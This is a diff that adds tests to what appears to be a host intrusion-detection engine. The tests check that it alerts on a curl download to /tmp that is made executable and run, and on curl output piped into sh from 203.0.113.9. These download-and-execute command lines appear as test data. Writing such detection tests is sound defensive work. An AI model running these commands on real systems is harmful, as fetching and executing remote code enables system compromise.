@@ -92,6 +92,34 @@ def test_drop_chmod_run_in_tmp_alerts_with_the_download_named(engine):
     assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
 
 
+def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine):
+    """The download alone is ordinary (scored below warn); making it executable starts the incident, and the
+    download of the same batch is part of it."""
+    session = Session()
+    engine.learn_only([session.exec("curl -s -o /tmp/report.csv https://reports.example/daily", 100, "bash",
+                                    gap=60.0) for _ in range(8)], workload="dev")
+    events = [session.exec("curl -s -o /tmp/update http://203.0.113.9/u", 100, "bash"),
+              session.exec("chmod +x /tmp/update", 100, "bash"),
+              session.exec("/tmp/update", 100, "bash", path="/tmp/update")]
+    verdicts = _score(engine, events)
+    assert verdicts[0].severity == "none" and verdicts[1].severity == "alert", verdicts
+    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
+
+
+def test_a_connection_of_a_pipe_end_keeps_its_exec_in_the_pipe(engine):
+    """The agent also reports curl's connection (same pid, no argv, no stdio): curl's exec record still
+    joins the incident of the sh it feeds."""
+    session = Session()
+    curl = session.exec("curl -s http://203.0.113.9/x", 100, "bash", stdout="pipe:77")
+    sh = session.exec("sh", 100, "bash", gap=0.001, stdin="pipe:77")
+    connection = ProcessEvent(executable_name="curl", command_line="curl", event_name="network.connection",
+                              pid=curl.pid, parent_pid=100, host=HOST, timestamp=curl.timestamp + 0.002,
+                              transport="tcp", remote_address="203.0.113.9", remote_port=80)
+    verdicts = _score(engine, [curl, connection, sh])
+    assert verdicts[2].severity == "alert" and verdicts[2].incident
+    assert verdicts[0].incident == verdicts[2].incident
+
+
 def test_setuid_gain_is_evidence_but_sudo_is_what_sudo_does(engine):
     session = Session()
     copy = session.exec("/tmp/.b -p -c id", 100, "bash", path="/tmp/.b", uid=0, real_uid=1002)
